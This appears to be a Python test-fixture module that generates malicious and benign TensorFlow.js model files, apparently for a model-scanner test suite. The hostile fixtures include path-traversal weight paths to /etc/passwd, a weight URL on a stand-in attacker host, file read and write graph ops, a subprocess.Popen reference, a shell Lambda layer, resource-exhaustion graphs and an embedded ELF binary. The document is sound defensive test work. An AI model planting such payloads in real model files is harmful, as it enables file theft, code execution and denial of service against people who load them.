"""TensorFlow.js models, hostile and benign: graph and layers models with weight manifests, written by hand."""

from __future__ import annotations

import json

import numpy as np
from google.protobuf import json_format

from .build import Func, X, const, definition, node, tf
from .keras_attacks import lambda_layer, legacy, module_reference, shell, with_layer
from .registry import Place, attack, benign

KERNEL = np.linspace(-1, 1, 8, dtype=np.float32).reshape(4, 2)


def _entry(name, value, **more):
    return {"name": name, "shape": list(value.shape), "dtype": str(value.dtype), **more}


def _write(
    place: Place,
    topology,
    kind="graph-model",
    weights=None,
    paths=None,
    entries=None,
    text=None,
    **more,
):
    place.path.mkdir(parents=True)
    weights = weights if weights is not None else [("w", KERNEL)]
    data = b"".join(value.tobytes() for _, value in weights)
    paths = paths or ["group1-shard1of1.bin"]
    document = {
        "format": kind,
        "generatedBy": "2.21.0",
        "convertedBy": "TensorFlow.js Converter v4.22.0",
        "modelTopology": topology,
        "weightsManifest": [
            {"paths": paths, "weights": entries or [_entry(name, value) for name, value in weights]}
        ],
        **more,
    }
    (place.path / "model.json").write_text(text or json.dumps(document))
    (place.path / "group1-shard1of1.bin").write_bytes(data)


def _graph(nodes, functions=(), weights=True):
    graph = tf.compat.v1.GraphDef()
    graph.versions.producer = 2500
    held = (
        [node("w", "Const", dtype=tf.float32, value=tf.make_tensor_proto(KERNEL))]
        if weights
        else []
    )
    graph.node.extend([X, *held, *nodes])
    graph.library.function.extend(functions)
    document = json_format.MessageToDict(graph, preserving_proto_field_name=False)
    for each in document["node"]:
        if each["name"] == "w":
            # The converter empties constants: their bytes are in the shards.
            each["attr"]["value"]["tensor"].pop("tensorContent", None)
    return document


MATMUL = node("y", "MatMul", ["x", "w"], T=tf.float32)


def _js(id, category, names, about, make, value=None, also=(), trigger="inference"):
    def build(place: Place):
        make(place)

    build.__doc__ = about
    attack(id, "tfjs", category, names, value, also=also, trigger=trigger)(build)


_js(
    "js-read-file",
    "file-read",
    "ReadFile",
    "ReadFile in the graph: harmless in a browser, but the model converts back and runs in tfjs-node.",
    lambda p: _write(
        p,
        _graph([const("p", f"{p.canary}/secret.txt"), node("leak", "ReadFile", ["p"]), MATMUL]),
        signature={
            "inputs": {"x": {"name": "x:0", "dtype": "DT_FLOAT"}},
            "outputs": {
                "y": {"name": "y:0", "dtype": "DT_FLOAT"},
                "leak": {"name": "leak:0", "dtype": "DT_STRING"},
            },
        },
    ),
)
_js(
    "js-write-file",
    "file-write",
    "WriteFile",
    "WriteFile in a library function.",
    lambda p: _write(
        p,
        _graph(
            [
                node(
                    "z",
                    "StatefulPartitionedCall",
                    ["y"],
                    Tin=[tf.float32],
                    Tout=[tf.float32],
                    f=Func("post"),
                ),
                MATMUL,
            ],
            _post(p),
        ),
        signature={
            "inputs": {"x": {"name": "x:0", "dtype": "DT_FLOAT"}},
            "outputs": {"z": {"name": "z:0", "dtype": "DT_FLOAT"}},
        },
    ),
)
_js(
    "js-custom-op",
    "custom-op",
    "StealTensors",
    "An unknown operation.",
    lambda p: _write(p, _graph([node("y", "StealTensors", ["x"], T=tf.float32)])),
    also=("code-execution",),
)
_js(
    "js-weights-climb",
    "path-traversal",
    ["../", "paths"],
    "A weight path that climbs out.",
    lambda p: _write(p, _graph([MATMUL]), paths=["../../../etc/passwd"]),
    "../../",
    also=("file-read",),
    trigger="load",
)
_js(
    "js-weights-absolute",
    "path-traversal",
    ["/etc/", "paths"],
    "A weight path that is absolute.",
    lambda p: _write(p, _graph([MATMUL]), paths=["/etc/hostname"]),
    "/etc/hostname",
    also=("file-read",),
    trigger="load",
)
_js(
    "js-weights-url",
    "network",
    ["https://", "attacker.example"],
    "A weight path that is a web address.",
    lambda p: _write(p, _graph([MATMUL]), paths=["https://attacker.example/w.bin"]),
    "attacker.example",
    also=("path-traversal",),
    trigger="load",
)
_js(
    "js-huge-weight",
    "memory",
    ["w", "shape"],
    "A weight of 10^14 bytes.",
    lambda p: _write(
        p,
        _graph([MATMUL]),
        entries=[{"name": "w", "shape": [5_000_000, 5_000_000], "dtype": "float32"}],
    ),
    also=("malformed",),
    trigger="load",
)
_js(
    "js-short-weights",
    "malformed",
    ["bytes", "shard", "group1", 'weight "w"'],
    "Weights that are longer than their shard.",
    lambda p: _write(
        p, _graph([MATMUL]), entries=[{"name": "w", "shape": [4, 200], "dtype": "float32"}]
    ),
    trigger="load",
    also=("unreadable",),
)
_js(
    "js-negative-shape",
    "malformed",
    ["shape", "negative"],
    "A negative dimension.",
    lambda p: _write(
        p, _graph([MATMUL]), entries=[{"name": "w", "shape": [-4, 2], "dtype": "float32"}]
    ),
    trigger="load",
    also=("memory", "unreadable"),
)
_js(
    "js-missing-shard",
    "malformed",
    ["group1-shard2of2", "missing"],
    "A shard that is not there.",
    lambda p: _write(p, _graph([MATMUL]), paths=["group1-shard1of1.bin", "group1-shard2of2.bin"]),
    trigger="load",
    also=("unreadable",),
)
_js(
    "js-lambda",
    "code-execution",
    ["Lambda"],
    "A layers model with a Lambda.",
    lambda p: _write(
        p,
        {
            "keras_version": "2.11.0",
            "backend": "tensorflow",
            "model_config": legacy([lambda_layer(shell())]),
        },
        "layers-model",
    ),
    trigger="load",
)
_js(
    "js-module",
    "code-execution",
    ["subprocess"],
    "A layers model with a module reference.",
    lambda p: _write(
        p,
        {
            "keras_version": "3.0",
            "model_config": with_layer(module_reference("subprocess", "Popen", {"args": "id"})),
        },
        "layers-model",
    ),
    trigger="load",
)
_js(
    "js-loop",
    "hang",
    ["While", "loop"],
    "A loop whose condition is the constant true.",
    lambda p: _write(
        p,
        _graph(
            [
                node(
                    "y",
                    "StatelessWhile",
                    ["x"],
                    T=[tf.float32],
                    cond=Func("cond"),
                    body=Func("body"),
                    parallel_iterations=10,
                )
            ],
            _loop(),
        ),
    ),
)
_js(
    "js-fill",
    "memory",
    "Fill",
    "Fill of 160 GB.",
    lambda p: _write(
        p,
        _graph(
            [
                const("dims", [200000, 200000]),
                const("one", 1.0),
                node("y", "Fill", ["dims", "one"], T=tf.float32, index_type=tf.int32),
            ]
        ),
    ),
)
_js(
    "js-duplicate-key",
    "parser-differential",
    ["duplicate", "twice"],
    "weightsManifest twice in the document.",
    lambda p: _twice(p),
    also=("malformed",),
    trigger="load",
)
_js(
    "js-program",
    "payload",
    ["ELF", "executable"],
    "A program in the shard.",
    lambda p: _program(p),
    also=("weights",),
    trigger="none",
)


def _post(place):
    def post(x):
        tf.io.write_file(f"{place.canary}/out/js-write-file", "owned")
        return tf.identity(x)

    return definition(post, tf.TensorSpec(None, tf.float32), name="post")


def _loop():
    spec = tf.TensorSpec([None, 4], tf.float32)
    return [
        *definition(lambda x: tf.constant(True), spec, name="cond"),
        *definition(lambda x: x * 2.0, spec, name="body"),
    ]


def _twice(place):
    _write(place, _graph([MATMUL]))
    file = place.path / "model.json"
    extra = '"weightsManifest": [{"paths": ["/etc/passwd"], "weights": []}], "weightsManifest"'
    file.write_text(file.read_text().replace('"weightsManifest"', extra))


def _program(place):
    from .code import _elf

    data = np.frombuffer(_elf().ljust(4096, b"\0")[:4096], np.float32)
    _write(place, _graph([MATMUL]), weights=[("w", KERNEL), ("v", data)])


@benign("b-js-graph", "tfjs")
def _(place: Place):
    """A graph model with a matrix product."""
    signature = {
        "inputs": {
            "x": {
                "name": "x:0",
                "dtype": "DT_FLOAT",
                "tensorShape": {"dim": [{"size": "-1"}, {"size": "4"}]},
            }
        },
        "outputs": {"y": {"name": "y:0", "dtype": "DT_FLOAT"}},
    }
    _write(place, _graph([MATMUL]), signature=signature)


@benign("b-js-layers", "tfjs")
def _(place: Place):
    """A layers model of two dense layers."""
    random = np.random.default_rng(0)
    layers = [
        {
            "class_name": "Dense",
            "config": {
                "name": "out",
                "units": 1,
                "activation": "sigmoid",
                "use_bias": True,
                "dtype": "float32",
            },
        }
    ]
    shapes = {"dense/kernel": [4, 3], "dense/bias": [3], "out/kernel": [3, 1], "out/bias": [1]}
    weights = [
        (name, random.normal(size=shape).astype(np.float32)) for name, shape in shapes.items()
    ]
    topology = {"keras_version": "2.11.0", "backend": "tensorflow", "model_config": legacy(layers)}
    _write(
        place,
        topology,
        "layers-model",
        weights=weights,
        trainingConfig={
            "loss": "mse",
            "metrics": ["accuracy"],
            "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}},
        },
    )


@benign("b-js-quantised", "tfjs")
def _(place: Place):
    """A graph model whose weights are quantised to bytes."""
    place_entries = [
        {
            "name": "w",
            "shape": [4, 2],
            "dtype": "float32",
            "quantization": {
                "dtype": "uint8",
                "min": -1.0,
                "scale": 0.0078,
                "original_dtype": "float32",
            },
        }
    ]
    _write(
        place,
        _graph([MATMUL]),
        weights=[("w", np.arange(8, dtype=np.uint8))],
        entries=place_entries,
    )


@benign("b-js-shards", "tfjs")
def _(place: Place):
    """A layers model in two shards, as the converter cuts large ones, with user-defined metadata."""
    random = np.random.default_rng(2)
    shapes = {"dense/kernel": [4, 3], "dense/bias": [3]}
    weights = [
        (name, random.normal(size=shape).astype(np.float32)) for name, shape in shapes.items()
    ]
    topology = {"keras_version": "2.11.0", "backend": "tensorflow", "model_config": legacy([])}
    paths = ["group1-shard1of2.bin", "group1-shard2of2.bin"]
    _write(
        place,
        topology,
        "layers-model",
        weights=weights,
        paths=paths,
        userDefinedMetadata={"labels": ["a", "b"], "url": "https://example.org/model-card"},
    )
    whole = (place.path / "group1-shard1of1.bin").read_bytes()
    (place.path / "group1-shard1of1.bin").unlink()
    (place.path / paths[0]).write_bytes(whole[:20])
    (place.path / paths[1]).write_bytes(whole[20:])
